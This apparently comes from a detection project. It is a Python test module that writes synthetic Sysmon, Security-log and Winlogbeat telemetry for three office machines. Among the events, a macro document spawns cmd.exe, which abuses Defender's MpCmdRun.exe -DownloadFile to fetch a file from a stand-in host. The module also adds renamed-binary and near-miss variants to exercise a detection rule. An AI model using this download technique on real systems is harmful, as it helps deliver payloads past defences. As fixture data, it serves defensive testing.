"""The telemetry in examples/: an office's ordinary day on three machines, and one intrusion among it.

`python -m tests.scenario` writes the files anew, byte for byte the same. Nothing in them comes from a real
network; records have the shape in which Windows and Winlogbeat write them.
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.evtx_writer import write_evtx

Record = dict[str, Any]
EXAMPLES = Path(__file__).resolve().parents[1] / "examples" / "telemetry"
START = datetime(2026, 10, 6, 7, 55, tzinfo=UTC)

SYSMON = (
    "Microsoft-Windows-Sysmon",
    "Microsoft-Windows-Sysmon/Operational",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
)
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security", "54849625-5478-4994-A5BA-3E3B0328C30D")
SYSTEM32 = "C:\\Windows\\System32\\"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26080.9-0\\MpCmdRun.exe"
ADDRESS = "https://cdn.example.com/a.txt"

# What runs on an ordinary day: image, its arguments, the parent, the file's own name.
ORDINARY = (
    (SYSTEM32 + "svchost.exe", "-k netsvcs -p -s Schedule", SYSTEM32 + "services.exe", "svchost.exe"),
    (SYSTEM32 + "taskhostw.exe", "Install $(Arg0)", SYSTEM32 + "svchost.exe", "taskhostw.exe"),
    (
        SYSTEM32 + "backgroundTaskHost.exe",
        "-ServerName:App.AppX",
        SYSTEM32 + "svchost.exe",
        "backgroundTaskHost.exe",
    ),
    (SYSTEM32 + "conhost.exe", "0xffffffff -ForceV1", SYSTEM32 + "cmd.exe", "CONHOST.EXE"),
    (SYSTEM32 + "RuntimeBroker.exe", "-Embedding", SYSTEM32 + "svchost.exe", "RuntimeBroker.exe"),
    (
        SYSTEM32 + "notepad.exe",
        "C:\\Users\\m.weber\\Documents\\minutes.txt",
        "C:\\Windows\\explorer.exe",
        "NOTEPAD.EXE",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "",
        "C:\\Windows\\explorer.exe",
        "Outlook.exe",
    ),
    (
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        '-contentproc -childID 7 -prefsLen 31244 "C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja"',
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "firefox.exe",
    ),
    (DEFENDER, "-IdleTask -TaskName WdCacheMaintenance", SYSTEM32 + "svchost.exe", "MpCmdRun.exe"),
    (DEFENDER, "SignatureUpdate -ScheduleJob -RestrictPrivileges", SYSTEM32 + "svchost.exe", "MpCmdRun.exe"),
    (SYSTEM32 + "ipconfig.exe", "/all", SYSTEM32 + "cmd.exe", "ipconfig.exe"),
    (
        SYSTEM32 + "SearchProtocolHost.exe",
        "Global\\UsGthrFltPipeMssGthrPipe1_",
        SYSTEM32 + "SearchIndexer.exe",
        "SearchProtocolHost.exe",
    ),
)
NAMES = (
    "login.example.net",
    "updates.example.org",
    "mail.example.com",
    "intranet.example.com",
    "time.example.org",
)


class Machine:
    """One computer's log: a clock that goes on, record numbers, process numbers."""

    def __init__(self, name: str, user: str, seed: int) -> None:
        self.name, self.user = name, user
        self.random = random.Random(seed)
        self.now = START + timedelta(seconds=self.random.randint(0, 600))
        self.number = self.random.randint(10_000, 90_000)

    def tick(self, most: int = 40) -> str:
        self.now += timedelta(milliseconds=self.random.randint(5, most * 1000))
        return self.now.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"

    def record(self, source: tuple[str, str, str], event_id: int, data: dict[str, Any], keywords: str) -> Record:
        provider, channel, guid = source
        time = self.tick()
        self.number += 1
        data = {k: (v[:-4] if k == "UtcTime" and len(v) > 23 else v) for k, v in data.items()}
        if "UtcTime" in data:
            data["UtcTime"] = time[:23].replace("T", " ")
        system = {
            "Provider": {"#attributes": {"Name": provider, "Guid": guid}},
            "EventID": event_id,
            "Version": 5,
            "Level": 4 if source is SYSMON else 0,
            "Task": event_id,
            "Opcode": 0,
            "Keywords": keywords,
            "TimeCreated": {"#attributes": {"SystemTime": time}},
            "EventRecordID": self.number,
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 3104, "ThreadID": 4120}},
            "Channel": channel,
            "Computer": self.name,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}} if source is SYSMON else None,
        }
        return {"Event": {"System": system, "EventData": data}}

    def guid(self) -> str:
        start, short, end = (self.random.getrandbits(bits) for bits in (32, 16, 32))
        return f"{start:08X}-{short:04X}-6501-0000-0010{end:08X}"

    def sysmon(self, event_id: int, data: dict[str, Any]) -> Record:
        return self.record(SYSMON, event_id, {"RuleName": "-", "UtcTime": "", **data}, "0x8000000000000000")

    def security(self, event_id: int, data: dict[str, Any]) -> Record:
        return self.record(SECURITY, event_id, data, "0x8020000000000000")

    def process(self, image: str, arguments: str, parent: str, original: str) -> Record:
        digest = f"{self.random.getrandbits(256):064X}"
        return self.sysmon(
            1,
            {
                "ProcessGuid": self.guid(),
                "ProcessId": self.random.randint(1000, 20000),
                "Image": image,
                "FileVersion": "10.0.26100.1",
                "Description": "-",
                "Product": "Microsoft Windows Operating System",
                "Company": "Microsoft Corporation",
                "OriginalFileName": original,
                "CommandLine": f'"{image}" {arguments}'.strip(),
                "CurrentDirectory": SYSTEM32,
                "User": self.user,
                "LogonGuid": self.guid(),
                "LogonId": "0x5a2f1",
                "TerminalSessionId": 1,
                "IntegrityLevel": "Medium",
                "Hashes": f"MD5={digest[:32]},SHA256={digest},IMPHASH={digest[32:]}",
                "ParentProcessGuid": self.guid(),
                "ParentProcessId": self.random.randint(400, 9000),
                "ParentImage": parent,
                "ParentCommandLine": f'"{parent}"',
                "ParentUser": self.user,
            },
        )

    def created(self, image: str, arguments: str, parent: str) -> Record:
        domain, name = self.user.split("\\")
        return self.security(
            4688,
            {
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
                "SubjectUserName": name,
                "SubjectDomainName": domain,
                "SubjectLogonId": "0x5a2f1",
                "NewProcessId": hex(self.random.randint(1000, 20000)),
                "NewProcessName": image,
                "TokenElevationType": "%%1938",
                "ProcessId": hex(self.random.randint(400, 9000)),
                "CommandLine": f'"{image}" {arguments}'.strip(),
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": parent,
                "MandatoryLabel": "S-1-16-8192",
            },
        )

    def ordinary(self) -> Record:
        image, arguments, parent, original = self.random.choice(ORDINARY)
        kind = self.random.random()
        by = {"ProcessGuid": self.guid(), "ProcessId": self.random.randint(1000, 20000), "Image": image}
        if kind < 0.3:
            return self.process(image, arguments, parent, original)
        if kind < 0.5:
            data = {"User": self.user, "Protocol": "tcp", "Initiated": True, "SourceIsIpv6": False}
            data |= {
                "SourceIp": "192.0.2.23",
                "SourceHostname": self.name,
                "SourcePort": self.random.randint(49152, 65000),
            }
            data |= {
                "SourcePortName": "-",
                "DestinationIsIpv6": False,
                "DestinationIp": f"198.51.100.{self.random.randint(2, 250)}",
            }
            data |= {"DestinationHostname": "-", "DestinationPort": 443, "DestinationPortName": "https"}
            return self.sysmon(3, {**by, **data})
        if kind < 0.65:
            answer = f"::ffff:198.51.100.{self.random.randint(2, 250)};"
            return self.sysmon(
                22, {**by, "QueryName": self.random.choice(NAMES), "QueryStatus": 0, "QueryResults": answer}
            )
        if kind < 0.8:
            name = f"C:\\Users\\m.weber\\AppData\\Local\\Temp\\~{self.random.getrandbits(24):06x}.tmp"
            return self.sysmon(11, {**by, "TargetFilename": name, "CreationUtcTime": "2026-10-06 07:55:00.000"})
        if kind < 0.9:
            key = f"HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Config\\Value{self.random.randint(1, 9)}"
            return self.sysmon(
                13, {"EventType": "SetValue", **by, "TargetObject": key, "Details": "DWORD (0x00000001)"}
            )
        return self.sysmon(5, by)


def below(parent: Record, child: Record) -> Record:
    """Make one process start the parent of another."""
    for name in ("ProcessGuid", "ProcessId", "CommandLine"):
        child["Event"]["EventData"]["Parent" + name] = parent["Event"]["EventData"][name]
    return child


def workstation() -> list[Record]:
    """Sysmon on a workstation: a mail attachment opens a shell, which fetches a file with Defender's tool."""
    machine = Machine("WS-0142.corp.example.com", "CORP\\m.weber", 1)
    day = [machine.ordinary() for _ in range(90)]
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    shell = SYSTEM32 + "cmd.exe"
    target = "C:\\Users\\Public\\a.txt"
    day.append(
        machine.process(
            office,
            "/n C:\\Users\\m.weber\\Downloads\\invoice.docm",
            "C:\\Windows\\explorer.exe",
            "WinWord.exe",
        )
    )
    opened = day[-1]
    day.append(below(opened, machine.process(shell, "/c mpcmdrun -downloadfile", office, "Cmd.Exe")))
    fetch = f"-DownloadFile -url {ADDRESS} -path {target}"
    day.append(below(day[-1], machine.process(DEFENDER, fetch, shell, "MpCmdRun.exe")))
    by = {name: day[-1]["Event"]["EventData"][name] for name in ("ProcessGuid", "ProcessId", "Image")}
    day.append(
        machine.sysmon(
            22,
            {**by, "QueryName": "cdn.example.com", "QueryStatus": 0, "QueryResults": "::ffff:203.0.113.77;"},
        )
    )
    day.append(machine.sysmon(11, {**by, "TargetFilename": target, "CreationUtcTime": "2026-10-06 08:40:00.000"}))
    day += [machine.ordinary() for _ in range(30)]
    # The same with the tool copied under another name: only the name in its resources tells.
    renamed = "C:\\Users\\Public\\update.exe"
    again = f"-path {target} -url {ADDRESS} -downloadfile"
    day.append(machine.process(renamed, again, shell, "MpCmdRun.exe"))
    # Near misses: a switch that the rule does not name, and a script that only mentions the tool.
    day.append(machine.process(DEFENDER, f"/DownloadFile /url {ADDRESS} /path {target}", shell, "MpCmdRun.exe"))
    day.append(
        machine.process(
            SYSTEM32 + "findstr.exe", '"MpCmdRun.exe -DownloadFile -url" notes.txt', shell, "FINDSTR.EXE"
        )
    )
    return day + [machine.ordinary() for _ in range(40)]


def server() -> list[Record]:
    """The Security log of a server: logons, processes, and the same file fetched by a service account."""
    machine = Machine("SRV-FILE01.corp.example.com", "CORP\\svc-backup", 2)
    day: list[Record] = []
    for _ in range(50):
        image, arguments, parent, _original = machine.random.choice(ORDINARY)
        day.append(machine.created(image, arguments, parent))
        if machine.random.random() < 0.4:
            day.append(machine.security(4624, _logon(machine)))
    day.append(
        machine.created(
            DEFENDER,
            f"-DownloadFile -url {ADDRESS} -path D:\\Shares\\a.txt",
            SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        )
    )
    return day + [machine.security(4634, _logon(machine)) for _ in range(5)]


def _logon(machine: Machine) -> dict[str, Any]:
    return {
        "SubjectUserSid": "S-1-5-18",
        "SubjectUserName": "SRV-FILE01$",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
        "TargetUserName": machine.random.choice(("m.weber", "a.ruiz", "svc-backup")),
        "TargetDomainName": "CORP",
        "TargetLogonId": hex(machine.random.getrandbits(28)),
        "LogonType": machine.random.choice((3, 3, 3, 5, 10)),
        "LogonProcessName": "Kerberos",
        "AuthenticationPackageName": "Kerberos",
        "WorkstationName": "-",
        "ProcessId": "0x0",
        "ProcessName": "-",
        "IpAddress": f"192.0.2.{machine.random.randint(2, 250)}",
        "IpPort": str(machine.random.randint(49152, 65000)),
    }


def shipped() -> Iterator[dict[str, Any]]:
    """What Winlogbeat ships from a third machine, in ECS: an ordinary day and nothing else."""
    machine = Machine("WS-0207.corp.example.com", "CORP\\a.ruiz", 3)
    for _ in range(80):
        image, arguments, parent, original = machine.random.choice(ORDINARY)
        line = f'"{image}" {arguments}'.strip()
        yield {
            "@timestamp": machine.tick(),
            "agent": {"type": "winlogbeat", "version": "8.19.4"},
            "event": {
                "category": ["process"],
                "type": ["start"],
                "kind": "event",
                "code": "1",
                "action": "Process creation",
            },
            "host": {"name": machine.name, "os": {"type": "windows"}},
            "user": {"name": "a.ruiz", "domain": "CORP"},
            "process": {
                "executable": image,
                "name": image.rpartition("\\")[2],
                "command_line": line,
                "args": [image, *arguments.split()],
                "entity_id": f"{{{machine.guid().lower()}}}",
                "pid": machine.random.randint(1000, 20000),
                "pe": {"original_file_name": original},
                "parent": {"executable": parent, "name": parent.rpartition("\\")[2]},
            },
        }


def files() -> dict[str, bytes]:
    """Return the content of each example file by its name."""
    lines = "".join(json.dumps(event) + "\n" for event in shipped())
    return {
        "WS-0142-sysmon.evtx": write_evtx(workstation()),
        "SRV-FILE01-security.evtx": write_evtx(server()),
        "WS-0207-winlogbeat.ndjson.gz": gzip.compress(lines.encode(), mtime=0),
    }


if __name__ == "__main__":
    EXAMPLES.mkdir(parents=True, exist_ok=True)
    for name, content in files().items():
        (EXAMPLES / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")
